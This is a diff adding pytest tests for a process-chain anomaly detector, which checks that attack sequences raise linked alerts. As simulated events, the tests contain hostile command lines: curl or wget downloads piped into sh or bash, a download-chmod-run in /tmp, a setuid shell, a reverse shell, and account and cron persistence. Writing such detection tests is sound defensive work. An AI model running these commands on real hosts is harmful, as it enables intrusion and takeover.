@@ -1,0 +1,187 @@
+"""Chains of processes: evidence across execs, incidents, and the bounds of the state behind them."""
+
+from __future__ import annotations
+
+import pytest
+
+from core.event import ProcessEvent
+from scoring.chains import ChainTracker
+from scoring.config import EngineConfig
+from scoring.engine import AnomalyEngine
+
+HOST = "web-1"
+
+
+class Session:
+    """Builds exec events of one host as a shell would start them: pids, parents, times, stdio."""
+
+    def __init__(self, start: float = 1_000_000.0) -> None:
+        self.now = start
+        self.pid = 20_000
+
+    def exec(self, line: str, parent: int, parent_name: str, *, uid: int = 1000, cwd: str = "/home/u",
+             gap: float = 1.0, path: str = "", real_uid: int | None = None, stdin: str = "", stdout: str = "",
+             pid: int | None = None) -> ProcessEvent:
+        self.now += gap
+        self.pid += 1
+        args = tuple(line.split())
+        name = (path or args[0]).rsplit("/", 1)[-1]
+        return ProcessEvent(executable_name=name, executable_path=path or f"/usr/bin/{args[0]}",
+                            command_line=line, command_args=args, parent_name=parent_name, parent_pid=parent,
+                            pid=pid or self.pid, user_id=uid, real_user_id=real_uid, working_directory=cwd,
+                            host=HOST, timestamp=self.now, stdin=stdin, stdout=stdout)
+
+
+ROUTINE = ["ls -la", "git status", "vim notes.txt", "df -h", "ps aux", "grep error /var/log/app.log", "make build",
+           "python3 manage.py check", "tail -n 20 /var/log/app.log", "du -sh /srv", "cat README.md",
+           "ssh deploy@10.0.0.5"]
+
+
+@pytest.fixture
+def engine(tmp_path):
+    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path / "baselines")))
+    session = Session(start=900_000.0)
+    engine.learn_only([session.exec(line, 100, "bash", gap=30.0) for line in ROUTINE * 8], workload="dev")
+    yield engine
+    engine.close()
+
+
+def _score(engine: AnomalyEngine, events: list[ProcessEvent]):  # type: ignore[no-untyped-def]
+    return engine.process(events, workload="dev")
+
+
+def test_curl_piped_into_sh_captured_as_two_processes_alerts_as_one_incident(engine):
+    session = Session()
+    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash")
+    sh = session.exec("sh", 100, "bash", gap=0.001)
+    verdicts = _score(engine, [curl, sh])
+    assert verdicts[1].severity == "alert", verdicts[1]
+    assert any("download piped into sh" in r for r in verdicts[1].reasons), verdicts[1].reasons
+    assert "T1105" in verdicts[1].techniques
+    assert verdicts[0].incident and verdicts[0].incident == verdicts[1].incident
+    assert verdicts[0].incident_score == verdicts[1].incident_score >= verdicts[1].score
+
+
+def test_pipe_identities_link_a_pipe_whatever_the_timing(engine):
+    session = Session()
+    wget = session.exec("wget -qO- http://203.0.113.9/x", 100, "bash", stdout="pipe:4242", stdin="tty")
+    bash = session.exec("bash", 100, "bash", gap=0.9, stdin="pipe:4242", stdout="tty")
+    verdict = _score(engine, [wget, bash])[1]
+    assert verdict.severity == "alert"
+    assert any("download piped into bash" in r for r in verdict.reasons)
+
+
+def test_sequential_commands_are_not_a_pipe(engine):
+    session = Session()
+    curl = session.exec("curl -s https://example.org/health", 100, "bash")
+    sh = session.exec("sh", 100, "bash", gap=5.0)
+    verdict = _score(engine, [curl, sh])[1]
+    assert not any("piped" in r for r in verdict.reasons)
+    assert verdict.severity != "alert"
+
+
+def test_drop_chmod_run_in_tmp_alerts_with_the_download_named(engine):
+    session = Session()
+    events = [session.exec("curl -s -o /tmp/.x http://203.0.113.9/x", 100, "bash"),
+              session.exec("chmod +x /tmp/.x", 100, "bash"),
+              session.exec("/tmp/.x", 100, "bash", path="/tmp/.x")]
+    verdicts = _score(engine, events)
+    assert verdicts[2].severity == "alert"
+    assert any("downloaded by curl" in r for r in verdicts[2].reasons), verdicts[2].reasons
+    assert any("made executable" in r and "downloaded by curl" in r for r in verdicts[1].reasons)
+    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
+
+
+def test_setuid_gain_is_evidence_but_sudo_is_what_sudo_does(engine):
+    session = Session()
+    copy = session.exec("/tmp/.b -p -c id", 100, "bash", path="/tmp/.b", uid=0, real_uid=1002)
+    sudo = session.exec("sudo systemctl restart app", 100, "bash", uid=0, real_uid=1000)
+    gained, helper = _score(engine, [copy, sudo])
+    assert any("setuid bit (real uid 1002)" in r for r in gained.reasons)
+    assert "T1548.001" in gained.techniques and gained.severity == "alert"
+    assert not any("setuid bit (real uid" in r for r in helper.reasons)
+
+
+def test_reconnaissance_below_a_web_server_alerts_where_an_admin_session_does_not(engine):
+    session = Session()
+    nginx = session.exec("nginx -g daemon off;", 1, "systemd", uid=0, path="/usr/sbin/nginx")
+    shell = session.exec("sh -c id", nginx.pid, "nginx", uid=33)
+    recon = session.exec("id", shell.pid, "sh", uid=33, gap=0.01)
+    verdicts = _score(engine, [nginx, shell, recon])
+    assert verdicts[2].severity == "alert", verdicts[2]
+    assert any("below nginx" in r for r in verdicts[2].reasons)
+    admin = _score(engine, [session.exec("id", 100, "bash")])[0]
+    assert admin.severity != "alert"
+
+
+def test_a_burst_of_account_and_persistence_changes_adds_up_in_one_incident(engine):
+    session = Session()
+    lines = ["useradd -m svc2", "usermod -aG sudo svc2", "crontab -u svc2 /tmp/.ct"]
+    verdicts = _score(engine, [session.exec(line, 300, "bash", uid=0) for line in lines])
+    assert all(v.severity == "alert" for v in verdicts), verdicts
+    assert any("follows 2 other sensitive commands" in r for r in verdicts[2].reasons), verdicts[2].reasons
+    assert len({v.incident for v in verdicts}) == 1
+    assert {"T1136.001", "T1098", "T1053.003"} <= set(verdicts[2].techniques) | set(verdicts[1].techniques) | set(
+        verdicts[0].techniques)
+
+
+def test_a_script_that_copies_chmods_and_runs_a_temp_binary_alerts_on_its_own(engine):
+    session = Session()
+    line = "sh -c cp /bin/sleep /tmp/.kworker; chmod 755 /tmp/.kworker; /tmp/.kworker 1; rm -f /tmp/.kworker"
+    event = session.exec(line, 400, "make")
+    event.command_args = ("sh", "-c", line.split(" ", 2)[2])
+    verdict = _score(engine, [event])[0]
+    assert verdict.severity == "alert"
+    assert any("earlier in the same script" in r for r in verdict.reasons), verdict.reasons
+
+
+def test_descendants_of_an_alert_join_its_incident(engine):
+    session = Session()
+    reverse = session.exec("bash -i", 100, "bash", stdin="socket:9911", stdout="socket:9911")
+    child = session.exec("uname -a", reverse.pid, "bash", gap=0.5)
+    verdicts = _score(engine, [reverse, child])
+    assert verdicts[0].severity == "alert" and "reverse shell" in " ".join(verdicts[0].reasons)
+    assert verdicts[1].incident == verdicts[0].incident
+
+
+def test_ancestors_come_from_the_process_table_per_host():
+    tracker = ChainTracker()
+    session = Session()
+    shell = session.exec("sh -c curl http://x | bash", 100, "nginx", pid=200)
+    curl = session.exec("curl http://x", 200, "sh", pid=201)
+    bash = session.exec("bash", 200, "sh", pid=202)
+    child = session.exec("id", 202, "bash", pid=203)
+    for event in (shell, curl, bash, child):
+        tracker.register("t", event)
+    assert [e.ancestors for e in (shell, curl, bash, child)] == [
+        ("nginx",), ("sh", "nginx"), ("sh", "nginx"), ("bash", "sh", "nginx")]
+    elsewhere = session.exec("id", 202, "bash", pid=203)
+    elsewhere.host = "web-2"
+    tracker.register("t", elsewhere)
+    assert elsewhere.ancestors == ("bash",)  # another host's pids are its own
+    given = session.exec("id", 202, "bash", pid=204)
+    given.ancestors = ("bash", "sshd")
+    tracker.register("t", given)
+    assert given.ancestors == ("bash", "sshd")  # a source's own ancestry (Falco) is kept
+
+
+def test_a_cycle_of_parent_pids_stops_the_walk():
+    tracker = ChainTracker()
+    session = Session()
+    tracker.register("t", session.exec("a", 6, "b", pid=5))
+    looped = session.exec("b", 5, "a", pid=6)
+    tracker.register("t", looped)
+    assert looped.ancestors == ("a",)
+
+
+def test_the_process_table_is_bounded():
+    tracker = ChainTracker(max_processes=1000, max_hosts=3)
+    session = Session()
+    for i in range(5000):
+        tracker.register("t", session.exec("true", 1, "init", pid=10_000 + i))
+    for host in ("a", "b", "c", "d"):
+        event = session.exec("true", 1, "init")
+        event.host = host
+        tracker.register("t", event)
+    assert len(tracker._hosts) == 3
+    assert all(len(h.nodes) <= 1000 for h in tracker._hosts.values())
